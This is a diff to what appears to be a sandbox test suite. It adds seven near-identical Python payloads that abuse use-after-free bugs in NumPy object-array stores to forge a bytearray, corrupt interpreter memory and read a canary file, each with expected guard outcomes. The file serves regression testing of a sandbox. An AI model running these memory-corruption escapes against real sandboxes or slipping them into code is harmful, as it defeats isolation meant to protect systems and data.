@@ -4624,6 +4624,283 @@ PAYLOADS = [
             st["limit"] = st["n"] // 2      # False in the counting pass, True in the writing one
             return len(run(300)[0])
         """, on={OK}, off={CRASH}),
+
+    # review 22 (2026-12-04): numpy's stores into arrays of objects
+    # a[i] = x (numpy's OBJECT_setitem: Py_XDECREF(old), then store)
+    Payload("numpy-object-setitem-frees-before-store", """
+        import json
+        import numpy as np
+
+        def main(canary_data):
+            real = json
+            if type(json).__name__ != "module":
+                keep = []
+                a = np.empty(3, dtype=object)
+                src = np.array([1, 2, 3], dtype=object)
+                q = lambda v: v.to_bytes(8, "little")
+                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
+                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
+                head = q(id(fake) + 32) * 4
+                def dying():
+                    try:
+                        yield 1
+                    finally:
+                        keep.append(a[0])
+                victim = dying()
+                next(victim)
+                a[0] = [victim]
+                victim = None
+                a[0] = None
+                fresh = [q, q, q, q, q, q, q, q]
+                fresh = None
+                filler = head[:31]
+                keep.append(keep[0])
+                keep.append(keep[0])
+                mem = keep[0][4]
+                module = w(mem, id(json) + 32)
+                mem[module:module + 8] = q(w(mem, module) + 100)
+                items = w(mem, id(keep) + 24)
+                mem[items + 8:items + 16] = q(module)
+                real = keep[1]
+                mem[id(keep) + 16:id(keep) + 24] = q(0)
+            return real.codecs.open(canary_data).read()
+        """, on={GUARD, EXCEPTION}, off={DENIED}),
+
+    # a.itemset(i, x) (OBJECT_setitem)
+    Payload("numpy-object-itemset-frees-before-store", """
+        import json
+        import numpy as np
+
+        def main(canary_data):
+            real = json
+            if type(json).__name__ != "module":
+                keep = []
+                a = np.empty(3, dtype=object)
+                src = np.array([1, 2, 3], dtype=object)
+                q = lambda v: v.to_bytes(8, "little")
+                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
+                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
+                head = q(id(fake) + 32) * 4
+                def dying():
+                    try:
+                        yield 1
+                    finally:
+                        keep.append(a[0])
+                victim = dying()
+                next(victim)
+                a[0] = [victim]
+                victim = None
+                a.itemset(0, None)
+                fresh = [q, q, q, q, q, q, q, q]
+                fresh = None
+                filler = head[:31]
+                keep.append(keep[0])
+                keep.append(keep[0])
+                mem = keep[0][4]
+                module = w(mem, id(json) + 32)
+                mem[module:module + 8] = q(w(mem, module) + 100)
+                items = w(mem, id(keep) + 24)
+                mem[items + 8:items + 16] = q(module)
+                real = keep[1]
+                mem[id(keep) + 16:id(keep) + 24] = q(0)
+            return real.codecs.open(canary_data).read()
+        """, on={GUARD, EXCEPTION}, off={DENIED}),
+
+    # an object ufunc's out= (its loop: Py_XDECREF(*out); *out = result)
+    Payload("numpy-object-ufunc-out-frees-before-store", """
+        import json
+        import numpy as np
+
+        def main(canary_data):
+            real = json
+            if type(json).__name__ != "module":
+                keep = []
+                a = np.empty(3, dtype=object)
+                src = np.array([1, 2, 3], dtype=object)
+                q = lambda v: v.to_bytes(8, "little")
+                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
+                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
+                head = q(id(fake) + 32) * 4
+                def dying():
+                    try:
+                        yield 1
+                    finally:
+                        keep.append(a[0])
+                victim = dying()
+                next(victim)
+                a[0] = [victim]
+                victim = None
+                np.add(src, 1, out=a)
+                fresh = [q, q, q, q, q, q, q, q]
+                fresh = None
+                filler = head[:31]
+                keep.append(keep[0])
+                keep.append(keep[0])
+                mem = keep[0][4]
+                module = w(mem, id(json) + 32)
+                mem[module:module + 8] = q(w(mem, module) + 100)
+                items = w(mem, id(keep) + 24)
+                mem[items + 8:items + 16] = q(module)
+                real = keep[1]
+                mem[id(keep) + 16:id(keep) + 24] = q(0)
+            return real.codecs.open(canary_data).read()
+        """, on={GUARD, EXCEPTION}, off={DENIED}),
+
+    # a[i] = x; the code's Python run by IOBase's finalizer (close() of a StringIO subclass)
+    Payload("numpy-object-setitem-io-close-finalizer", """
+        import json
+        import numpy as np
+        import io
+
+        def main(canary_data):
+            real = json
+            if type(json).__name__ != "module":
+                keep = []
+                a = np.empty(3, dtype=object)
+                src = np.array([1, 2, 3], dtype=object)
+                q = lambda v: v.to_bytes(8, "little")
+                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
+                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
+                head = q(id(fake) + 32) * 4
+                class Closer(io.StringIO):
+                    def close(self):
+                        keep.append(a[0])
+                victim = Closer()
+                a[0] = [victim]
+                victim = None
+                a[0] = None
+                fresh = [q, q, q, q, q, q, q, q]
+                fresh = None
+                filler = head[:31]
+                keep.append(keep[0])
+                keep.append(keep[0])
+                mem = keep[0][4]
+                module = w(mem, id(json) + 32)
+                mem[module:module + 8] = q(w(mem, module) + 100)
+                items = w(mem, id(keep) + 24)
+                mem[items + 8:items + 16] = q(module)
+                real = keep[1]
+                mem[id(keep) + 16:id(keep) + 24] = q(0)
+            return real.codecs.open(canary_data).read()
+        """, on={GUARD, EXCEPTION}, off={DENIED}),
+
+    # a.put(i, x) (PyArray_PutTo: Item_XDECREF, then memmove)
+    Payload("numpy-object-put-frees-before-store", """
+        import json
+        import numpy as np
+
+        def main(canary_data):
+            real = json
+            if type(json).__name__ != "module":
+                keep = []
+                a = np.empty(3, dtype=object)
+                src = np.array([1, 2, 3], dtype=object)
+                q = lambda v: v.to_bytes(8, "little")
+                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
+                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
+                head = q(id(fake) + 32) * 4
+                def dying():
+                    try:
+                        yield 1
+                    finally:
+                        keep.append(a[0])
+                victim = dying()
+                next(victim)
+                a[0] = [victim]
+                victim = None
+                a.put(0, None)
+                fresh = [q, q, q, q, q, q, q, q]
+                fresh = None
+                filler = head[:31]
+                keep.append(keep[0])
+                keep.append(keep[0])
+                mem = keep[0][4]
+                module = w(mem, id(json) + 32)
+                mem[module:module + 8] = q(w(mem, module) + 100)
+                items = w(mem, id(keep) + 24)
+                mem[items + 8:items + 16] = q(module)
+                real = keep[1]
+                mem[id(keep) + 16:id(keep) + 24] = q(0)
+            return real.codecs.open(canary_data).read()
+        """, on={GUARD, EXCEPTION}, off={DENIED}),
+
+    # a[:] = int array (the cast's _strided_to_strided_move_references: DECREF dst, then store)
+    Payload("numpy-cast-into-object-frees-before-store", """
+        import json
+        import numpy as np
+
+        def main(canary_data):
+            real = json
+            if type(json).__name__ != "module":
+                keep = []
+                a = np.empty(3, dtype=object)
+                src = np.array([1, 2, 3], dtype=object)
+                q = lambda v: v.to_bytes(8, "little")
+                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
+                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
+                head = q(id(fake) + 32) * 4
+                def dying():
+                    try:
+                        yield 1
+                    finally:
+                        keep.append(a[0])
+                victim = dying()
+                next(victim)
+                a[0] = [victim]
+                victim = None
+                a[:] = np.arange(3)
+                fresh = [q, q, q, q, q, q, q, q]
+                fresh = None
+                filler = head[:31]
+                keep.append(keep[0])
+                keep.append(keep[0])
+                mem = keep[0][4]
+                module = w(mem, id(json) + 32)
+                mem[module:module + 8] = q(w(mem, module) + 100)
+                items = w(mem, id(keep) + 24)
+                mem[items + 8:items + 16] = q(module)
+                real = keep[1]
+                mem[id(keep) + 16:id(keep) + 24] = q(0)
+            return real.codecs.open(canary_data).read()
+        """, on={GUARD, EXCEPTION}, off={DENIED}),
+
+    # a[:] = int array, with io's finalizer as the trigger
+    Payload("numpy-cast-into-object-io-close-finalizer", """
+        import json
+        import numpy as np
+        import io
+
+        def main(canary_data):
+            real = json
+            if type(json).__name__ != "module":
+                keep = []
+                a = np.empty(3, dtype=object)
+                src = np.array([1, 2, 3], dtype=object)
+                q = lambda v: v.to_bytes(8, "little")
+                w = lambda m, at: int.from_bytes(bytes(m[at:at + 8]), "little")
+                fake = q(1 << 40) + q(id(bytearray)) + q(1 << 62) + q(0) + q(0) + q(0) + q(0)
+                head = q(id(fake) + 32) * 4
+                class Closer(io.StringIO):
+                    def close(self):
+                        keep.append(a[0])
+                victim = Closer()
+                a[0] = [victim]
+                victim = None
+                a[:] = np.arange(3)
+                fresh = [q, q, q, q, q, q, q, q]
+                fresh = None
+                filler = head[:31]
+                keep.append(keep[0])
+                keep.append(keep[0])
+                mem = keep[0][4]
+                module = w(mem, id(json) + 32)
+                mem[module:module + 8] = q(w(mem, module) + 100)
+                items = w(mem, id(keep) + 24)
+                mem[items + 8:items + 16] = q(module)
+                real = keep[1]
+                mem[id(keep) + 16:id(keep) + 24] = q(0)
+            return real.codecs.open(canary_data).read()
+        """, on={GUARD, EXCEPTION}, off={DENIED}),
 ]
 
 # Raw system calls the allowlist must refuse (or answer with ENOSYS).
